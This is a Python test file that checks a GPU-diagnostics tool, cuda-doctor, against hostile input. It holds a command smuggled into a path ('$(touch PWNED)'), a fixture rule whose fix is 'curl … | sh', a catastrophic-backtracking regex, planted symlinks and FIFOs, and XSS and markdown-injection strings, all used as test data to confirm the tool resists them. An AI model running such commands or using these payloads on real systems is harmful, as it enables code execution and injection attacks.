"""Hostile input, end to end: a repository, a saved report or a shared folder that tries to make
cuda-doctor run code, hang, overwrite what it should not, or leak a secret."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from tests.conftest import REPO, run_doctor

H200_FACTS = REPO / "tests" / "rules" / "h200_facts.json"
PLANTS = ("platform", "json", "re", "struct", "sysconfig", "traceback", "warnings", "subprocess", "threading")


def saved_facts(tmp_path: Path, **values: object) -> Path:
    data = json.loads(H200_FACTS.read_text(encoding="utf-8"))
    data["values"].update(values)
    path = tmp_path / "facts.json"
    path.write_text(json.dumps({"facts": data}), encoding="utf-8")
    return path


def test_a_pasted_fix_runs_no_code_from_a_fact(tmp_path: Path) -> None:
    hostile = str(tmp_path / "ve $(touch PWNED)" / "bin" / "python")
    facts = saved_facts(tmp_path, **{"framework.python": hostile, "torch.cuda_available": False})
    proc = run_doctor(["check", "--facts", str(facts), "--format", "json", "--select", "CD202"], cwd=tmp_path)
    result = next(r for r in json.loads(proc.stdout)["results"] if r["rule"] == "CD202")
    (command,) = result["commands"]
    pasted = subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, text=True, timeout=30)
    assert pasted.returncode == 127  # no such interpreter: the path was one word, nothing else ran
    assert not (tmp_path / "PWNED").exists()


def test_check_imports_nothing_from_the_repository_it_runs_in(tmp_path: Path, plain_python: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    for name in PLANTS:
        (repo / f"{name}.py").write_text(f"open({str(tmp_path / 'RAN')!r}, 'a').write({name!r} + '\\n')\n")
    # the installed script, as users run it (``python -m`` lets Python itself import from the
    # current directory before any of cuda-doctor's code runs: docs/security.md)
    script = Path(sys.executable).parent / "cuda-doctor"
    argv = [str(script), "check", "--no-smoke", "--python", str(plain_python), "--format", "json"]
    proc = subprocess.run(argv, cwd=repo, capture_output=True, text=True, timeout=180, env=dict(os.environ))
    assert proc.returncode in (0, 1, 2), proc.stderr
    assert not (tmp_path / "RAN").exists(), (tmp_path / "RAN").read_text()
    values = json.loads(proc.stdout)["facts"]["values"]
    assert values["torch.installed"] is False  # the child ran, and said so


REPO_RULE = """
id = "XYZ001"
title = "A repository's own rule"
category = "environment"
severity = "error"
requires = ["env.cuda_visible_devices"]
rationale = "Repository rule."
links = ["https://example.invalid/"]
pass_message = "fine"

[[outcome]]
when = { fact = "env.cuda_visible_devices", matches = "^(a+)+$" }
message = "this repository's rule fired"
fix = "Run the repository's installer:"
commands = ["curl -s https://example.invalid/install | sh"]
"""


def test_a_repository_rule_cannot_hang_the_check_and_is_labelled_as_the_repositorys(tmp_path: Path) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "XYZ001.toml").write_text(REPO_RULE, encoding="utf-8")
    (tmp_path / "pyproject.toml").write_text('[tool.cuda-doctor]\nrules-dirs = ["rules"]\n', encoding="utf-8")
    env = {
        **os.environ,
        "CUDA_VISIBLE_DEVICES": "a" * 40 + "!",
        "CUDA_DOCTOR_DISABLE_NVML": "1",
        "PATH": "/usr/bin:/bin",
    }
    # a backtracking engine takes hours on this value; the bound only keeps a failure from hanging CI
    proc = run_doctor(["check", "--fast", "--format", "json"], cwd=tmp_path, env=env, timeout=120)
    result = next(r for r in json.loads(proc.stdout)["results"] if r["rule"] == "XYZ001")
    assert result["status"] == "pass"
    assert result["origin"] == str(tmp_path / "rules")
    env["CUDA_VISIBLE_DEVICES"] = "aaaa"
    text = run_doctor(["check", "--fast", "--select", "XYZ001"], cwd=tmp_path, env=env, timeout=120).stdout
    assert "this repository's rule fired" in text
    assert f"a rule from {tmp_path / 'rules'}, not cuda-doctor's" in text


def shared_folder(tmp_path: Path) -> Path:
    """A folder like /tmp: world-writable and sticky."""
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(0o1777)
    return folder


def test_a_report_is_not_written_through_a_symlink_another_user_planted(tmp_path: Path) -> None:
    victim = tmp_path / "owned-by-root.conf"
    victim.write_text("precious\n")
    link = shared_folder(tmp_path) / "report.json"
    link.symlink_to(victim)
    os.lchown(link, 65534, 65534)  # planted by "nobody"
    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin"}
    proc = run_doctor(["check", "--fast", "--save", str(link)], cwd=tmp_path, env=env)
    assert proc.returncode == 2
    assert "is a symlink owned by another user (uid 65534) in a shared folder" in proc.stderr
    assert victim.read_text() == "precious\n"


def test_a_planted_fifo_is_refused_and_ones_own_without_a_reader_does_not_block(tmp_path: Path) -> None:
    folder = shared_folder(tmp_path)
    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin"}
    fifo = folder / "planted.json"
    os.mkfifo(fifo)
    os.chown(fifo, 65534, 65534)
    proc = run_doctor(["facts", "-o", str(fifo)], cwd=tmp_path, env=env, timeout=120)
    assert proc.returncode == 2 and "is a FIFO or device owned by another user" in proc.stderr
    own = tmp_path / "own.fifo"
    os.mkfifo(own)
    proc = run_doctor(["facts", "-o", str(own)], cwd=tmp_path, env=env, timeout=120)
    assert proc.returncode == 2 and "a FIFO that nobody reads" in proc.stderr


def smi_fixtures(tmp_path: Path, xml: str) -> Path:
    folder = tmp_path / "smi"
    folder.mkdir()
    (folder / "nvidia-smi-q.xml").write_text(xml, encoding="utf-8")
    source = REPO / "tests" / "fixtures" / "h200" / "query-gpu.csv"
    (folder / "query-gpu.csv").write_text(source.read_text(encoding="utf-8"), encoding="utf-8")
    return folder


def smi_env(fake: object, folder: Path) -> dict[str, str]:
    exe = fake.path  # type: ignore[attr-defined]
    path = f"{exe.parent}:/usr/bin:/bin"
    return {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": path, "FAKE_NVIDIA_SMI_FIXTURES": str(folder)}


def test_one_absurd_field_in_nvidia_smi_spoils_only_that_field(tmp_path: Path, fake_nvidia_smi: object) -> None:
    xml = (REPO / "tests" / "fixtures" / "h200" / "nvidia-smi-q.xml").read_text(encoding="utf-8")
    xml = xml.replace("<total>143771 MiB</total>", f"<total>{'9' * 5000} MiB</total>", 1)
    proc = run_doctor(["facts", "--format", "json"], env=smi_env(fake_nvidia_smi, smi_fixtures(tmp_path, xml)))
    values = json.loads(proc.stdout)["facts"]["values"]
    assert values["driver.version"] == "580.159.04" and values["gpu[0].name"] == "NVIDIA H200"
    assert values["gpu[0].memory_total_mib"] is None


def test_an_nvidia_smi_listing_sixty_thousand_gpus_is_read_in_part(tmp_path: Path, fake_nvidia_smi: object) -> None:
    gpus = "".join(f'<gpu id="00000000:{i % 256:02X}:00.0"><product_name>X</product_name></gpu>' for i in range(60_000))
    xml = f"<?xml version='1.0'?><nvidia_smi_log><driver_version>580.159.04</driver_version>{gpus}</nvidia_smi_log>"
    proc = run_doctor(["facts", "--format", "json"], env=smi_env(fake_nvidia_smi, smi_fixtures(tmp_path, xml)))
    values = json.loads(proc.stdout)["facts"]["values"]
    assert values["gpu.count"] == 1024 and values["driver.smi_gpus_not_read"] == 58_976
    assert "gpu[1024].name" not in values


def test_deeply_nested_toml_and_json_from_outside_end_as_answers(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.cuda-doctor]\nx = " + "[" * 100_000 + "]" * 100_000 + "\n")
    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin"}
    proc = run_doctor(["check", "--fast"], cwd=tmp_path, env=env)
    assert proc.returncode == 2 and "pyproject.toml" in proc.stderr and "nested too deeply" in proc.stderr
    assert "Traceback" not in proc.stderr


def test_a_child_printing_deeply_nested_json_is_no_traceback(tmp_path: Path) -> None:
    python = tmp_path / "python"
    # it answers --python's check as a Python 3 would (that line first), then the nested JSON
    answer = 'cuda-doctor-interpreter {"version": [3, 12, 3], "frameworks": []}'
    python.write_text(f"#!/bin/sh\necho '{answer}'\necho '{'[' * 100_000}'\necho '{{\"a\": {'[' * 100_000}'\n")
    python.chmod(0o755)
    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin"}
    proc = run_doctor(["check", "--no-smoke", "--python", str(python), "--format", "json"], cwd=tmp_path, env=env)
    assert "Traceback" not in proc.stderr and proc.returncode in (0, 1, 2)
    assert json.loads(proc.stdout)["facts"]["unknown"]["torch.installed"]


def test_names_and_values_that_are_not_utf8_are_written_not_lost(tmp_path: Path) -> None:
    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin"}
    env_bytes = {k.encode(): v.encode() for k, v in env.items()} | {b"CUDA_VISIBLE_DEVICES": b"\xff"}
    target = os.fsdecode(bytes(tmp_path) + b"/\xfe.json")
    script = Path(sys.executable).parent / "cuda-doctor"
    code = tmp_path / "code"
    code.mkdir()
    Path(os.fsdecode(bytes(code) + b"/\xfb.py")).write_text("import torch\ntorch.cuda.amp.GradScaler()\n")
    nodes = tmp_path / "nodes"
    nodes.mkdir()
    report = json.dumps({"facts": json.loads(H200_FACTS.read_text(encoding="utf-8")), "host": os.fsdecode(b"n\xfa")})
    Path(os.fsdecode(bytes(nodes) + b"/\xfc.json")).write_text(report)
    runs = (
        ["facts", "-o", target],
        ["watch", "-o", target, "--", "true", os.fsdecode(b"\xfd")],
        ["lint", "-o", target, str(code)],
        ["fleet", "-o", target, str(nodes)],
    )
    for argv in runs:
        proc = subprocess.run([str(script), *argv], env=env_bytes, capture_output=True, timeout=180)  # type: ignore[arg-type]
        assert proc.returncode in (0, 1), proc.stderr
        assert b"internal error" not in proc.stderr
        assert Path(target).read_bytes()
        Path(target).unlink()


def test_no_secret_reaches_a_report_or_a_crash_log(tmp_path: Path) -> None:
    secret = "hunter2-s3cret"
    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin"}
    env["DOCKER_HOST"] = f"tcp://admin:{secret}@127.0.0.1:1"
    for fmt in ("json", "text", "markdown"):
        proc = run_doctor(["check", "--image", "x:1", "--format", fmt, "-v"], cwd=tmp_path, env=env)
        assert secret not in proc.stdout + proc.stderr
    saved = tmp_path / "w.json"
    script = Path(sys.executable).parent / "cuda-doctor"
    subprocess.run(
        [str(script), "watch", "--save", str(saved), "--", "true", f"--api-key={secret}"], env=env, timeout=120
    )
    assert saved.exists() and secret not in saved.read_text()
    crash = (
        "import sys\n"
        "from cuda_doctor import cli\n"
        "from cuda_doctor.commands import rules\n"
        f"rules.command.callback = lambda *a, **k: 1 / 0  # an internal error, {secret!r} in argv\n"
        f"sys.argv = ['cuda-doctor', 'rules', '--token={secret}']\n"
        "cli.main(['rules'])\n"
    )
    crash_env = {**env, "XDG_STATE_HOME": str(tmp_path), "PYTHONPATH": str(REPO)}
    proc = subprocess.run([sys.executable, "-c", crash], env=crash_env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 3 and "internal error: ZeroDivisionError" in proc.stderr
    (log,) = tmp_path.glob("cuda-doctor-crash-*.log")
    assert log.stat().st_mode & 0o777 == 0o600
    assert secret not in log.read_text() and "--token=***" in log.read_text()


def test_markdown_shows_what_a_host_and_a_gpu_are_called_and_does_nothing_else(tmp_path: Path) -> None:
    facts = saved_facts(
        tmp_path,
        **{
            "system.hostname": '<img src=x onerror="alert(1)">',
            "gpu[0].name": "<script>alert(1)</script> [click](https://evil.example/) @everyone **bold**",
            "env.cuda_visible_devices": "7",
        },
    )
    data = json.loads(facts.read_text(encoding="utf-8"))
    data["host"] = "@admin <b>node</b>"
    facts.write_text(json.dumps(data), encoding="utf-8")
    proc = run_doctor(["check", "--facts", str(facts), "--format", "markdown"], cwd=tmp_path)
    out = proc.stdout
    for raw in ("<img", "<script>", "<b>", "](https://", "@everyone", "@admin", "**bold**"):
        assert raw not in out, raw
    assert "&lt;script&gt;" in out and "&#64;everyone" in out and "\\[click\\]" in out


def test_sarif_uris_and_annotations_carry_any_file_name_safely(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    names = ["a#b?c%d e.py", "new\nline.py", "esc\x1b]2;PWNED\x07.py"]
    for name in names:
        (repo / name).write_text("import torch\nwith torch.cuda.amp.autocast():\n    pass\n", encoding="utf-8")
    sarif = json.loads(run_doctor(["lint", "--format", "sarif", "."], cwd=repo).stdout)
    uris = sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in sarif["runs"][0]["results"])
    assert uris == ["a%23b%3Fc%25d%20e.py", "esc%1B%5D2%3BPWNED%07.py", "new%0Aline.py"]
    github = run_doctor(["lint", "--format", "github", "."], cwd=repo).stdout
    assert "\x1b" not in github and "\x07" not in github
    assert len(github.splitlines()) == 3  # one annotation each: no name forged a line


def test_cache_entries_of_the_wrong_shape_are_read_again_not_a_crash(tmp_path: Path) -> None:
    import marshal

    env = {**os.environ, "CUDA_DOCTOR_DISABLE_NVML": "1", "PATH": "/usr/bin:/bin", "XDG_CACHE_HOME": str(tmp_path)}
    first = run_doctor(["check", "--fast", "--format", "json"], cwd=tmp_path, env=env)
    (cache,) = (tmp_path / "cuda-doctor").glob("toml-*.marshal")
    entries = marshal.loads(cache.read_bytes())
    cache.write_bytes(marshal.dumps({key: {**entry, "data": ["not", "a", "table"]} for key, entry in entries.items()}))
    again = run_doctor(["check", "--fast", "--format", "json"], cwd=tmp_path, env=env)
    assert again.returncode == first.returncode and "Traceback" not in again.stderr
    assert len(json.loads(again.stdout)["results"]) == len(json.loads(first.stdout)["results"])


def test_a_report_with_infinite_and_nan_numbers_is_compared_not_a_crash(tmp_path: Path) -> None:
    data = json.loads(H200_FACTS.read_text(encoding="utf-8"))
    text = json.dumps({"facts": data})
    (tmp_path / "inf.json").write_text(text.replace('"gpu.count": 1', '"gpu.count": Infinity'), encoding="utf-8")
    (tmp_path / "nan.json").write_text(text.replace('"gpu.count": 1', '"gpu.count": NaN'), encoding="utf-8")
    (tmp_path / "ok.json").write_text(text, encoding="utf-8")
    for fmt in ("text", "json", "markdown", "html"):
        proc = run_doctor(["fleet", str(tmp_path), "--format", fmt], cwd=tmp_path)
        assert proc.returncode in (0, 1) and "internal error" not in proc.stderr, proc.stderr
    proc = run_doctor(["diff", str(tmp_path / "ok.json"), str(tmp_path / "inf.json")], cwd=tmp_path)
    assert proc.returncode in (0, 1) and "internal error" not in proc.stderr, proc.stderr
